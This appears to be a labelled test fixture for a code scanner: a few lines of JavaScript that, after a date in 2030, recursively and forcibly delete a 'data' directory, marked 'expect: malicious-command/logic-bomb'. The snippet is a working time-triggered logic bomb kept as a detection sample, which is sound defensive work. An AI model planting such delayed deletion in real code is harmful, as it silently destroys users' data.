const fs = require('fs');

if (Date.now() > 1893456000000) {
  fs.rmSync('data', { recursive: true, force: true }); // expect: malicious-command/logic-bomb
}
